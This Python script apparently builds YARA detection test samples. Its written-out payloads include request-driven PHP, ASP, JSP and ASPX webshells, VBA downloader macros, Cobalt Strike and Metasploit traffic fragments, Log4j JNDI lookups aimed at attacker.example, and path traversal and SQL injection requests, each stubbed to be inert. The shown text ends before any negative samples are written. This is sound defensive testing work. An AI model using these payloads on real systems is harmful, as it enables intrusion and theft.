#!/usr/bin/env python3
"""Writes haidang's YARA test samples: positive/ (each triggers the rules
listed in expected.tsv) and negative/ (benign look-alikes that must trigger
nothing). Run it from anywhere; it writes next to itself, deterministically
(same bytes on every run), so a diff shows what a change did.

Every sample is inert. Script samples start by stopping themselves (PHP
exit, ASP Response.End, JSP return) before the part a rule looks for;
URLs point at .example names (RFC 2606); the Windows executables are built
here with struct, their code is `xor eax, eax; ret`; the Office files are
synthetic compound files whose VBA streams only imitate real ones (no
p-code), so Office would not run them; shellcode and Cobalt Strike samples
are fragments of bytes, not programs.

    python3 tests/data/yara-samples/make-samples.py
"""
import base64
import os
import struct
import sys
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
POS = os.path.join(HERE, 'positive')
NEG = os.path.join(HERE, 'negative')
expected = []   # (relative path, [rules])


def write(path, data):
    if isinstance(data, str):
        data = data.encode('utf-8')
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'wb') as f:
        f.write(data)


def pos(name, rules, data):
    write(os.path.join(POS, name), data)
    expected.append(('positive/' + name, rules))


def neg(name, data):
    write(os.path.join(NEG, name), data)
    expected.append(('negative/' + name, []))


def crlf(text):
    """HTTP header block: lines joined with CRLF."""
    return text.strip('\n').replace('\n', '\r\n')


def http_request(head, body=b''):
    """Request with the header block as written; a Content-Length line in it
    is set to the body's real length."""
    if isinstance(body, str):
        body = body.encode('utf-8')
    lines = [('Content-Length: %d' % len(body)) if l.startswith('Content-Length:') else l
             for l in head.strip('\n').split('\n')]
    return '\r\n'.join(lines).encode('utf-8') + b'\r\n\r\n' + body


def http_response(head, body):
    if isinstance(body, str):
        body = body.encode('utf-8')
    head = crlf(head) + '\r\nContent-Length: %d' % len(body)
    return head.encode('utf-8') + b'\r\n\r\n' + body


UA_CHROME = ('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 '
             '(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36')

# --------------------------------------------------------------------------
# Minimal Windows PE files


def align(n, a):
    return (n + a - 1) // a * a


def make_pe(imports=None, exports=None, dll_name=None, x64=False, is_dll=False,
            bootstrap=None, filler=b''):
    """A one-section PE: code `xor eax, eax; ret`, an import table for
    imports {dll: [function]}, an export table naming exports, optional
    extra bytes (filler). bootstrap replaces the start of the DOS header
    (it must begin with MZ and leave e_lfanew alone)."""
    imports = imports or {}
    exports = exports or []
    sect_rva, file_align, sect_align = 0x1000, 0x200, 0x1000
    ptr_size = 8 if x64 else 4
    body = bytearray(b'\x31\xc0\xc3' + b'\xcc' * 13)    # xor eax,eax; ret

    def here():
        return sect_rva + len(body)

    def put(data, al=2):
        while len(body) % al:
            body.append(0)
        rva = here()
        body.extend(data)
        return rva

    # imports: descriptors first (fixed size), then thunks and names
    imp_dir = (0, 0)
    if imports:
        put(b'', 4)
        desc_off = len(body)
        body.extend(b'\x00' * 20 * (len(imports) + 1))
        descs = []
        for dll, funcs in imports.items():
            name_rvas = [put(struct.pack('<H', 0) + f.encode() + b'\x00') for f in funcs]
            fmt = '<Q' if x64 else '<I'
            thunks = b''.join(struct.pack(fmt, r) for r in name_rvas) + struct.pack(fmt, 0)
            ilt = put(thunks, ptr_size)
            iat = put(thunks, ptr_size)
            dll_rva = put(dll.encode() + b'\x00')
            descs.append(struct.pack('<IIIII', ilt, 0, 0, dll_rva, iat))
        body[desc_off:desc_off + 20 * len(descs)] = b''.join(descs)
        imp_dir = (sect_rva + desc_off, 20 * (len(imports) + 1))

    exp_dir = (0, 0)
    if exports:
        put(b'', 4)
        dir_off = len(body)
        body.extend(b'\x00' * 40)
        name_rva = put((dll_name or 'sample.dll').encode() + b'\x00')
        fn_rvas = put(b''.join(struct.pack('<I', sect_rva) for _ in exports), 4)
        names = [put(e.encode() + b'\x00') for e in exports]
        names_rva = put(b''.join(struct.pack('<I', r) for r in names), 4)
        ords_rva = put(b''.join(struct.pack('<H', i) for i in range(len(exports))), 2)
        body[dir_off:dir_off + 40] = struct.pack(
            '<IIHHIIIIIII', 0, 0, 0, 0, name_rva, 1, len(exports), len(exports),
            fn_rvas, names_rva, ords_rva)
        exp_dir = (sect_rva + dir_off, 40)

    body.extend(filler)
    raw_size = align(len(body), file_align)
    body.extend(b'\x00' * (raw_size - len(body)))

    e_lfanew = 0x80
    dos = bytearray(b'MZ' + b'\x00' * 0x3A + struct.pack('<I', e_lfanew))
    dos += b'\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21'
    dos += b'This program cannot be run in DOS mode.\r\r\n$'
    dos += b'\x00' * (e_lfanew - len(dos))
    if bootstrap:
        assert bootstrap[:2] == b'MZ' and len(bootstrap) <= 0x3C
        dos[:len(bootstrap)] = bootstrap

    machine = 0x8664 if x64 else 0x14c
    opt_size = 240 if x64 else 224
    chars = 0x0002 | (0x2000 if is_dll else 0) | (0x0020 if x64 else 0x0100)
    coff = struct.pack('<4sHHIIIHH', b'PE\x00\x00', machine, 1, 0, 0, 0, opt_size, chars)
    size_image = sect_rva + align(len(body), sect_align)
    dirs = [exp_dir, imp_dir] + [(0, 0)] * 14
    if x64:
        opt = struct.pack('<HBBIIIII', 0x20b, 14, 0, raw_size, 0, 0, sect_rva, sect_rva)
        opt += struct.pack('<QII', 0x180000000 if is_dll else 0x140000000, sect_align, file_align)
        opt += struct.pack('<HHHHHHIIIIHHQQQQII', 6, 0, 0, 0, 6, 0, 0, size_image, 0x200, 0,
                           2, 0x8160, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    else:
        opt = struct.pack('<HBBIIIIII', 0x10b, 14, 0, raw_size, 0, 0, sect_rva, sect_rva, sect_rva)
        opt += struct.pack('<III', 0x10000000 if is_dll else 0x400000, sect_align, file_align)
        opt += struct.pack('<HHHHHHIIIIHHIIIIII', 6, 0, 0, 0, 6, 0, 0, size_image, 0x200, 0,
                           2, 0x8140, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    opt += b''.join(struct.pack('<II', r, s) for r, s in dirs)
    assert len(opt) == opt_size
    sect = struct.pack('<8sIIIIIIHHI', b'.text', len(body), sect_rva, raw_size, 0x200,
                       0, 0, 0, 0, 0xE0000060)
    head = bytes(dos) + coff + opt + sect
    head += b'\x00' * (0x200 - len(head))
    return head + bytes(body)


# --------------------------------------------------------------------------
# Minimal compound files (OLE2 / CFB, version 3, 512-byte sectors)

FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def cfb_name_key(name):
    return (len(name), name.upper())


def make_cfb(tree):
    """tree: {name: bytes (stream) or dict (storage)}. Streams are padded to
    4096 bytes so that none lives in the mini stream. Siblings are chained
    in CFB order, all black: readers accept it, it is not balanced."""
    entries = []   # [name, type, data, children(list of idx)]

    def add(name, node):
        idx = len(entries)
        if isinstance(node, dict):
            entries.append([name, 1, None, []])
            for k in sorted(node, key=cfb_name_key):
                entries[idx][3].append(add(k, node[k]))
        else:
            data = node + b'\x00' * max(0, 4096 - len(node))
            entries.append([name, 2, data, []])
        return idx

    root = add('Root Entry', tree)
    entries[root][1] = 5

    sectors = []   # file sectors after the header
    starts = {}
    fat = []
    for i, e in enumerate(entries):
        if e[1] != 2:
            continue
        data = e[2] + b'\x00' * (align(len(e[2]), 512) - len(e[2]))
        n = len(data) // 512
        starts[i] = len(sectors)
        for k in range(n):
            sectors.append(data[k * 512:(k + 1) * 512])
            fat.append(len(sectors) if k < n - 1 else ENDOFCHAIN)

    def dirent(i):
        name, typ, data, children = entries[i]
        raw = name.encode('utf-16-le') + b'\x00\x00'
        child = children[0] if children else NOSTREAM
        return struct.pack('<64sHBBIII16sIQQIQ', raw, len(raw), typ, 1,
                           NOSTREAM, right[i], child, b'\x00' * 16, 0, 0, 0,
                           starts.get(i, ENDOFCHAIN if typ != 2 else 0),
                           len(data) if typ == 2 else 0)

    right = [NOSTREAM] * len(entries)
    for e in entries:
        for a, b in zip(e[3], e[3][1:]):
            right[a] = b
    dirdata = b''.join(dirent(i) for i in range(len(entries)))
    dirdata += b'\x00' * (align(len(dirdata), 512) - len(dirdata))
    ndir = len(dirdata) // 512
    first_dir = len(sectors)
    for k in range(ndir):
        sectors.append(dirdata[k * 512:(k + 1) * 512])
        fat.append(len(sectors) if k < ndir - 1 else ENDOFCHAIN)
    # FAT sectors describe themselves too
    nfat = 1
    while (len(sectors) + nfat) > nfat * 128:
        nfat += 1
    first_fat = len(sectors)
    fat += [FATSECT] * nfat
    fat += [FREESECT] * (nfat * 128 - len(fat))
    fatdata = b''.join(struct.pack('<I', x) for x in fat)
    for k in range(nfat):
        sectors.append(fatdata[k * 512:(k + 1) * 512])
    difat = [first_fat + k for k in range(nfat)] + [FREESECT] * (109 - nfat)
    header = struct.pack('<8s16sHHHHH6sIIIIIIIII', b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
                         b'\x00' * 16, 0x3E, 3, 0xFFFE, 9, 6, b'\x00' * 6, 0, nfat,
                         first_dir, 0, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0)
    header += b''.join(struct.pack('<I', x) for x in difat)
    assert len(header) == 512
    return header + b''.join(sectors)


def ovba_compress(text):
    """MS-OVBA compression using literal tokens only (valid, just not small)."""
    data = text.encode('latin-1')
    out = bytearray(b'\x01')
    for c in range(0, len(data), 4096):
        chunk = data[c:c + 4096]
        body = bytearray()
        for t in range(0, len(chunk), 8):
            body.append(0)                 # flag byte: 8 literals follow
            body.extend(chunk[t:t + 8])
        size = len(body) + 2
        out += struct.pack('<H', 0xB000 | (size - 3))
        out += body
    return bytes(out)


def vba_project(module, source, identifiers, literals):
    """The VBA storage of a project: imitation _VBA_PROJECT (identifier
    table in the clear), dir, and one module stream (a cache area holding
    the string literals, then the compressed source)."""
    ids = b''.join(struct.pack('<H', len(i)) + i.encode() for i in identifiers)
    vba_project_stream = b'\xcc\x61\xff\xff\x00\x00\x00' + ids
    cache = b'\x01\x16\x03\x00' + b''.join(
        struct.pack('<H', len(s)) + s.encode() for s in literals)
    dir_stream = ovba_compress('PROJECTNAME Project MODULENAME ' + module)
    return {
        '_VBA_PROJECT': vba_project_stream,
        'dir': dir_stream,
        module: cache + b'\x00' * 16 + ovba_compress(source),
    }


MACRO_DOWNLOADER = '''Attribute VB_Name = "ThisDocument"
Attribute VB_Base = "1Normal.ThisDocument"
Private Declare Function URLDownloadToFileA Lib "urlmon" (ByVal pCaller As Long, _
    ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, _
    ByVal lpfnCB As Long) As Long
Sub AutoOpen()
    ' haidang YARA test sample: inert. The host is a reserved .example name
    ' and the Shell line can never run.
    Dim r As Long
    r = URLDownloadToFileA(0, "http://update.badsite.example/haidang-test.txt", _
        Environ("TEMP") & "\\haidang-test.txt", 0, 0)
    If False Then Shell "notepad.exe " & Environ("TEMP") & "\\haidang-test.txt"
End Sub
'''

MACRO_SHELL = '''Attribute VB_Name = "ThisWorkbook"
Attribute VB_Base = "0{00020819-0000-0000-C000-000000000046}"
Private Sub Workbook_Open()
    ' haidang YARA test sample: inert, the command only echoes text.
    Dim sh As Object
    Set sh = CreateObject("WScript.Shell")
    If False Then sh.Run "cmd.exe /c echo haidang-test", 0
End Sub
'''

MACRO_BENIGN = '''Attribute VB_Name = "Module1"
Sub TinhTong()
    ' sums the selected cells: no auto-run, no shell
    Dim c As Range, s As Double
    For Each c In Selection
        s = s + c.Value
    Next c
    MsgBox "Tong: " & s
End Sub
'''


def word_doc(vba=None):
    tree = {
        'WordDocument': b'\xec\xa5\xc1\x00' + b'\x00' * 60 + 'Báo cáo tháng 11'.encode('utf-16-le'),
        '1Table': b'\x00' * 64,
        '\x05SummaryInformation': b'\xfe\xff\x00\x00' + b'\x00' * 44,
    }
    if vba:
        tree['Macros'] = {'VBA': vba, 'PROJECT': b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'
                                                  b'Document=ThisDocument/&H00000000\r\nName="Project"\r\n'}
    return make_cfb(tree)


def excel_xls(vba=None):
    tree = {'Workbook': b'\x09\x08\x10\x00\x00\x06\x05\x00' + b'\x00' * 120}
    if vba:
        tree['_VBA_PROJECT_CUR'] = {'VBA': vba, 'PROJECT': b'Document=ThisWorkbook/&H00000000\r\n'}
    return make_cfb(tree)


# --------------------------------------------------------------------------
# Zip-based Office files and other benign formats

ZIP_DATE = (2024, 11, 27, 8, 0, 0)


def make_zip(members):
    import io
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


DOCX_BODY = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
             '<w:body><w:p><w:r><w:t>Kế hoạch chuyển đổi số năm 2025 của Sở Thông tin và Truyền thông.'
             '</w:t></w:r></w:p></w:body></w:document>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="word/document.xml"/></Relationships>')


def docx(macro=False):
    main = ('application/vnd.ms-word.document.macroEnabled.main+xml' if macro else
            'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml')
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else '')
          + '<Override PartName="/word/document.xml" ContentType="%s"/></Types>' % main)
    members = [('[Content_Types].xml', ct), ('_rels/.rels', RELS), ('word/document.xml', DOCX_BODY)]
    if macro:
        members.append(('word/_rels/document.xml.rels',
                        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                        '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/'
                        'vbaProject" Target="vbaProject.bin"/></Relationships>'))
        members.append(('word/vbaProject.bin', make_cfb({
            'VBA': vba_project('ThisDocument', MACRO_DOWNLOADER,
                               ['ThisDocument', 'AutoOpen', 'URLDownloadToFileA', 'Shell'],
                               ['urlmon', 'http://update.badsite.example/haidang-test.txt']),
            'PROJECT': b'Document=ThisDocument/&H00000000\r\n'})))
    return make_zip(members)


def make_pdf():
    objs = [
        b'<</Type/Catalog/Pages 2 0 R>>',
        b'<</Type/Pages/Kids[3 0 R]/Count 1>>',
        b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R'
        b'/Resources<</Font<</F1 5 0 R>>>>>>',
        None,
        b'<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
        b'<</Title(Bao cao quy III nam 2024)/Author(So Thong tin va Truyen thong)'
        b'/Producer(haidang make-samples.py)>>',
    ]
    stream = (b'BT /F1 14 Tf 72 770 Td (UBND TINH - SO THONG TIN VA TRUYEN THONG) Tj '
              b'0 -24 Td (Bao cao tinh hinh an toan thong tin quy III/2024) Tj ET')
    objs[3] = b'<</Length %d>>stream\n' % len(stream) + stream + b'\nendstream'
    out = bytearray(b'%PDF-1.4\n%\xe2\xe3\xcf\xd3\n')
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b'%d 0 obj' % i + o + b'endobj\n'
    xref = len(out)
    out += b'xref\n0 %d\n0000000000 65535 f \n' % (len(objs) + 1)
    for o in offs:
        out += b'%010d 00000 n \n' % o
    out += b'trailer<</Size %d/Root 1 0 R/Info 6 0 R>>\nstartxref\n%d\n%%%%EOF\n' % (len(objs) + 1, xref)
    return bytes(out)


def make_png(w=16, h=16):
    def chunk(t, d):
        return struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t + d) & 0xffffffff)
    raw = b''.join(b'\x00' + bytes((x * 16 + y) & 0xff for x in range(w) for _ in range(3))
                   for y in range(h))
    return (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0))
            + chunk(b'IDAT', zlib.compress(raw, 9)) + chunk(b'IEND', b''))


def pseudo_random(n, seed=0x1234567):
    """Deterministic filler bytes (xorshift)."""
    x, out = seed, bytearray()
    while len(out) < n:
        x ^= (x << 13) & 0xffffffff
        x ^= x >> 17
        x ^= (x << 5) & 0xffffffff
        out += struct.pack('<I', x)
    return bytes(out[:n])


# ==========================================================================
# Positive samples

STOP_PHP = "<?php exit('haidang YARA test sample'); ?>\n"

# --- webshells ---------------------------------------------------------------
pos('php-eval-oneliner.php', ['webshell_php_eval_request'],
    STOP_PHP + "<?php @eval($_POST['haidang']); ?>\n")

pos('php-dynamic-call.php', ['webshell_php_eval_request'],
    STOP_PHP + "<?php $_REQUEST['f']($_REQUEST['a']); ?>\n")

pos('http-upload-php-webshell.txt', ['webshell_php_eval_request'], http_request('''
POST /quantri/upload.php HTTP/1.1
Host: congthongtin.tinh.example
User-Agent: %s
Content-Type: multipart/form-data; boundary=----haidangboundary
Content-Length: 246
''' % UA_CHROME, '''------haidangboundary\r
Content-Disposition: form-data; name="anh"; filename="anh-dai-dien.php"\r
Content-Type: image/jpeg\r
\r
GIF89a;
<?php exit; ?><?php @assert(stripslashes($_REQUEST['x'])); ?>\r
------haidangboundary--\r
'''))

pos('php-cmd-system.php', ['webshell_php_command_request'],
    STOP_PHP + """<?php
if (isset($_GET['cmd'])) {
    echo '<pre>';
    system($_GET['cmd']);
    echo '</pre>';
}
?>
""")

pos('php-cmd-backtick.php', ['webshell_php_command_request'],
    STOP_PHP + "<?php echo `$_POST['c']`; ?>\n")

inner = zlib.compress(b"echo 'haidang YARA test sample';")[2:-4]   # raw deflate
pos('php-packed.php', ['webshell_php_packed_eval'],
    STOP_PHP + "<?php eval(gzinflate(base64_decode('%s'))); ?>\n"
    % base64.b64encode(inner).decode())

pos('wso-page.html', ['webshell_php_known_kit'], http_response('''
HTTP/1.1 200 OK
Server: Apache
Content-Type: text/html; charset=UTF-8''', '''<html><head><meta http-equiv='Content-Type' content='text/html; charset=UTF-8'>
<title>dichvucong.tinh.example - WSO 2.5</title>
<style>body{background-color:#444;color:#e1e1e1;}</style></head><body>
<form method=post name=mf style='display:none;'><input type=hidden name=a value='FilesMan'>
<input type=hidden name=c><input type=hidden name=p1><input type=hidden name=p2></form>
<table class=main><tr><td><span>Uname:</span> Linux web01 (haidang test sample)</td></tr></table>
</body></html>
'''))

pos('b374k-fragment.php', ['webshell_php_known_kit'],
    STOP_PHP + """<?php
/* b374k shell 3.2.3 (haidang test sample: only the marker lines) */
$GLOBALS['pass'] = "0000";
$b374k = "inert";
?>
""")

pos('http-chopper-client.txt', ['webshell_china_chopper_client', 'webshell_php_eval_request'],
    http_request('''
POST /uploads/hinhanh/1.php HTTP/1.1
Host: congthongtin.tinh.example
User-Agent: Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)
Content-Type: application/x-www-form-urlencoded
Content-Length: 200''',
    'haidang=@eval(base64_decode($_POST[z0]));&z0=' +
    base64.b64encode(b'@ini_set("display_errors","0");@set_time_limit(0);'
                     b'echo("->|");echo("haidang test");echo("|<-");die();').decode()))

STOP_ASP = '<% Response.End %>\n'
pos('asp-eval.asp', ['webshell_asp_eval_request'], STOP_ASP + '<%eval request("haidang")%>\n')
pos('aspx-jscript-eval.aspx', ['webshell_asp_eval_request'],
    '<%@ Page Language="Jscript"%><% Response.End(); %>'
    '<%eval(Request.Item["haidang"],"unsafe");%>\n')

pos('asp-wscript.asp', ['webshell_asp_wscript_request'], STOP_ASP + '''<%
Set oShell = Server.CreateObject("WScript.Shell")
Set oExec = oShell.Exec("cmd.exe /c " & Request("cmd"))
Response.Write oExec.StdOut.ReadAll()
%>
''')

pos('aspx-process.aspx', ['webshell_aspx_process_request'], '''<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    Response.End(); // haidang YARA test sample: stops here
    ProcessStartInfo psi = new ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + Request.Form["lenh"];
    psi.RedirectStandardOutput = true;
    psi.UseShellExecute = false;
    Process p = Process.Start(psi);
    Response.Write(p.StandardOutput.ReadToEnd());
}
</script>
''')

STOP_JSP = '<% if (true) return; /* haidang YARA test sample */ %>\n'
pos('jsp-cmd.jsp', ['webshell_jsp_exec_request'], STOP_JSP + '''<%@ page import="java.io.*" %>
<%
Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
String l; while ((l = r.readLine()) != null) out.println(l);
%>
''')

pos('jsp-cmd-split.jsp', ['webshell_jsp_exec_request'], STOP_JSP + '''<%
String c = request.getParameter("c");
if (c != null) {
    Process p = Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", c});
    out.print(new java.util.Scanner(p.getInputStream()).useDelimiter("\\\\A").next());
}
%>
''')

pos('jsp-classloader.jsp', ['webshell_jsp_classloader'], STOP_JSP + '''<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%>
<%!class U extends ClassLoader{U(ClassLoader c){super(c);}
public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>
<%if (request.getMethod().equals("POST")){
String k="0123456789abcdef";
Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));
byte[] d=c.doFinal(Base64.getDecoder().decode(request.getReader().readLine()));
new U(this.getClass().getClassLoader()).g(d).newInstance().equals(pageContext);}%>
''')

# --- defacement ----------------------------------------------------------------
pos('defaced-index.html', ['defacement_hacked_by_page'], http_response('''
HTTP/1.1 200 OK
Server: Apache/2.4.41 (Ubuntu)
Content-Type: text/html; charset=UTF-8''', '''<!DOCTYPE html>
<html><head><title>Hacked By HaiDangTestTeam</title>
<meta name="description" content="haidang YARA test sample"></head>
<body bgcolor="black" text="#00ff00">
<center><h1>Hacked By HaiDangTestTeam</h1>
<marquee behavior="alternate"><font color="red">Your security is low, patch your system!</font></marquee>
<p>Greetz to: all members of the example crew</p>
<embed src="https://music.example/song.mp3" autostart="true" hidden="true">
</center></body></html>
'''))

# --- C2 --------------------------------------------------------------------------
pos('http-cs-post.txt', ['c2_cobaltstrike_default_http_post'], http_request('''
POST /submit.php?id=1093573302 HTTP/1.1
Accept: */*
User-Agent: Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; BOIE9;ENUS)
Host: 10.77.0.66
Content-Length: 68
Connection: Keep-Alive
Cache-Control: no-cache
Content-Type: application/octet-stream''', pseudo_random(68, 7)))

pos('http-cs-get.txt', ['c2_cobaltstrike_default_http_get'], http_request('''
GET /updates.rss HTTP/1.1
Accept: */*
Cookie: %s
User-Agent: Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; NP06)
Host: 10.77.0.66
Connection: Keep-Alive
Cache-Control: no-cache''' % base64.b64encode(pseudo_random(128, 11)).decode()))

# a beacon configuration: settings 1 (type), 2 (port), 3 (sleep), XOR 0x2e
cfg = (struct.pack('>HHHH', 1, 1, 2, 0) + struct.pack('>HHHH', 2, 1, 2, 443)
       + struct.pack('>HHHI', 3, 2, 4, 60000) + struct.pack('>HHHI', 4, 2, 4, 1048576))
cfg += b'\x00' * 64
pos('cs-beacon-config.bin', ['c2_cobaltstrike_beacon_config'],
    pseudo_random(512, 3) + bytes(b ^ 0x2E for b in cfg) + pseudo_random(512, 5))

pos('smb-pipe-msse.bin', ['c2_cobaltstrike_default_pipe'],
    b'\x00\x00\x00\x98\xfeSMB@\x00\x01\x00' + b'\x00' * 52 + b'\x39\x00' + b'\x00' * 54
    + 'MSSE-4821-server'.encode('utf-16-le') + b'\x00' * 8)

pos('http-stager-x86.txt', ['c2_metasploit_block_api_shellcode'], http_response('''
HTTP/1.1 200 OK
Content-Type: application/octet-stream''',
    bytes.fromhex('fce882000000' '6089e531c0' '648b5030') + b'\x00' * 40
    + bytes.fromhex('684c772607') + b'\x90' * 8 + bytes.fromhex('683a5679a7') + b'\x00' * 32))

pos('stager-x64.bin', ['c2_metasploit_block_api_shellcode'],
    bytes.fromhex('fc4883e4f0e8c8000000' '4151415052515648') + b'\x00' * 64
    + bytes.fromhex('41ba4c772607') + b'\x00' * 16)

pos('http-reflective-stage.txt', ['c2_reflective_dll_stage'], http_response('''
HTTP/1.1 200 OK
Content-Type: application/octet-stream''',
    make_pe(x64=True, is_dll=True, bootstrap=bytes.fromhex('4d5a4152554889e5'),
            exports=['Run'], dll_name='stage.dll')))

stage = make_pe(x64=True, is_dll=True, bootstrap=bytes.fromhex('4d5a4152554889e5'),
                exports=['ReflectiveLoader'], dll_name='metsrv.x64.dll')
pos('meterpreter-stage.bin', ['c2_meterpreter_stage', 'c2_reflective_dll_stage'],
    struct.pack('<I', len(stage)) + stage)

# --- exploits --------------------------------------------------------------------
pos('http-log4j-header.txt', ['exploit_log4j_jndi_lookup'], http_request('''
GET /dichvucong/ HTTP/1.1
Host: dichvucong.tinh.example
User-Agent: ${jndi:ldap://scanner.attacker.example:1389/Exploit}
X-Api-Version: ${jndi:ldap://scanner.attacker.example:1389/Exploit}
Accept: */*'''))

pos('http-log4j-urlencoded.txt', ['exploit_log4j_jndi_lookup'], http_request('''
POST /log4shell/login HTTP/1.1
Host: dichvucong.tinh.example
Content-Type: application/x-www-form-urlencoded
Content-Length: 70''', 'uname=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%3A1389%2Fa%7D&password='))

pos('http-log4j-obfuscated.txt', ['exploit_log4j_obfuscated_lookup'], http_request('''
GET /?q=${${lower:j}${upper:n}${::-d}${env:NaN:-i}:${lower:l}dap://attacker.example/x} HTTP/1.1
Host: congthongtin.tinh.example
Referer: ${${::-j}ndi:rmi://attacker.example/y}
Accept: */*'''))


def ber_str(tag, s):
    return bytes([tag, len(s)]) + s


attrs = b''.join(
    b'\x30' + bytes([len(ber_str(4, k) + b'\x31' + bytes([len(ber_str(4, v))]) + ber_str(4, v))])
    + ber_str(4, k) + b'\x31' + bytes([len(ber_str(4, v))]) + ber_str(4, v)
    for k, v in [(b'javaClassName', b'foo'), (b'javaCodeBase', b'http://attacker.example:80/'),
                 (b'objectClass', b'javaNamingReference'), (b'javaFactory', b'Exploit')])
entry = ber_str(4, b'a') + b'\x30' + bytes([len(attrs)]) + attrs
pos('ldap-reference-answer.bin', ['exploit_jndi_ldap_reference_answer'],
    b'\x30' + bytes([len(entry) + 5]) + b'\x02\x01\x02' + b'\x64' + bytes([len(entry)]) + entry)

pos('http-traversal-passwd.txt', ['exploit_path_traversal_system_file'], http_request('''
GET /tai-lieu/download.php?file=../../../../../etc/passwd HTTP/1.1
Host: congthongtin.tinh.example
User-Agent: curl/7.88.1
Accept: */*'''))

pos('http-traversal-encoded.txt',
    ['exploit_path_traversal_system_file', 'exploit_path_traversal_encoded'], http_request('''
GET /static/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1
Host: congthongtin.tinh.example
Accept: */*'''))

pos('http-traversal-encoded-only.txt', ['exploit_path_traversal_encoded'], http_request('''
GET /cgi-bin/..%2f..%2f..%2f..%2fbin/sh HTTP/1.1
Host: congthongtin.tinh.example
Accept: */*'''))

pos('http-lfi-wrapper.txt', ['exploit_path_traversal_system_file'], http_request('''
GET /index.php?page=php://filter/convert.base64-encode/resource=config HTTP/1.1
Host: congthongtin.tinh.example
Accept: */*'''))

pos('http-passwd-response.txt', ['exploit_system_file_disclosed'], http_response('''
HTTP/1.1 200 OK
Content-Type: text/plain''', '''root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
'''))

pos('http-sqli-union.txt', ['exploit_sqli_union_select'], http_request('''
GET /tin-tuc/chi-tiet.php?id=-15%27+UNION+ALL+SELECT+NULL,CONCAT(username,0x3a,password),NULL+FROM+users--+- HTTP/1.1
Host: congthongtin.tinh.example
User-Agent: ''' + UA_CHROME + '''
Accept: */*'''))

pos('http-sqli-sleep.txt', ['exploit_sqli_blind_timing'], http_request('''
GET /van-ban/tim-kiem?so=12%27+AND+SLEEP(5)--+-&nam=2024 HTTP/1.1
Host: congthongtin.tinh.example
Accept: */*'''))

pos('http-sqli-waitfor.txt', ['exploit_sqli_blind_timing'], http_request('''
POST /dangnhap.aspx HTTP/1.1
Host: dichvucong.tinh.example
Content-Type: application/x-www-form-urlencoded
Content-Length: 58''', "tendangnhap=admin%27%3BWAITFOR+DELAY+%270%3A0%3A5%27--&mk=x"))

pos('http-sqli-benchmark.txt', ['exploit_sqli_blind_timing'], http_request('''
GET /lich-cong-tac?tuan=1+AND+BENCHMARK(5000000,MD5(1)) HTTP/1.1
Host: congthongtin.tinh.example
Accept: */*'''))

pos('http-sqli-infoschema.txt', ['exploit_sqli_information_schema'], http_request('''
GET /tin-tuc/chi-tiet.php?id=1+AND+(SELECT+COUNT(*)+FROM+information_schema.tables)>0 HTTP/1.1
Host: congthongtin.tinh.example
Accept: */*'''))

